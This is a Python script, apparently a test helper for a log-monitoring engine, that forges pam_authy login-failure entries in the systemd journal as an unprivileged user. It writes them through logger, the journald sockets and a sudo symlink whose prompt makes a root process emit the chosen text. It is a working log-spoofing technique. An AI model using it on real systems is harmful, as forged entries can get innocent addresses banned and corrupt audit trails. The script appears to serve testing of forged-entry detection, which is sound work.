"""Writes to the journal, as a plain user, lines that look like those of pam_authy about addresses in
203.0.113.0/24: through each socket of journald, and through a program with the rights of root that
prints what its caller likes, with our engine's name as its own. Prints how many lines it wrote."""

import os
import socket
import subprocess

TAG = "pam_authy(sshd:auth)"
LINK = os.path.join(os.environ["HOME"], "pam_authyd")


def line(number):
    return (
        "verdict=refused reason=wrong_code factor=token provider=authy code=60020 authy_id=1635 "
        f'attempts=1 pid=1 uid=0 peer=root rhost="203.0.113.{number}" tty="ssh" user="alice"'
    )


def datagrams(path):
    sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sender.connect(path)
    return sender


def native(number):
    fields = [
        "_UID=0",
        "_EXE=/usr/libexec/pam_authy/pam_authyd",
        "_TRANSPORT=syslog",
        f"SYSLOG_IDENTIFIER={TAG}",
        f"MESSAGE={line(number)}",
    ]
    datagrams("/run/systemd/journal/socket").send("\n".join(fields + [""]).encode())


def stream():
    sender = socket.socket(socket.AF_UNIX)
    sender.connect("/run/systemd/journal/stdout")
    sender.send(f"{TAG}\n\n5\n0\n0\n0\n0\n".encode())
    return sender


def prompt_of_sudo(output, prompt):
    command = [LINK, "-k", "-S", "-p", prompt, "true"]
    subprocess.run(command, stdin=subprocess.DEVNULL, stderr=output, check=False)


def prompt_with_its_own_number(output, prompt):
    child = os.fork()
    if child == 0:
        os.dup2(os.open(os.devnull, os.O_RDONLY), 0)
        os.dup2(output.fileno(), 2)
        text = prompt.replace("[1]", f"[{os.getpid()}]")
        os.execv(LINK, [LINK, "-k", "-S", "-p", text, "true"])
    os.waitpid(child, 0)


os.symlink("/usr/bin/sudo", LINK)
subprocess.run(["logger", "-t", TAG + "[1]", line(1)], check=True)
datagrams("/dev/log").send(f"<85>Nov 27 00:00:00 {TAG}[1]: {line(2)}".encode())
native(3)
stream().send((line(4) + "\n").encode())
prompt_of_sudo(stream(), line(5) + "\n")
prompt_of_sudo(datagrams("/dev/log"), f"<85>Nov 27 00:00:00 {TAG}[1]: {line(6)}")
prompt_with_its_own_number(datagrams("/dev/log"), f"<85>Nov 27 00:00:00 {TAG}[1]: {line(11)}")
print(7)
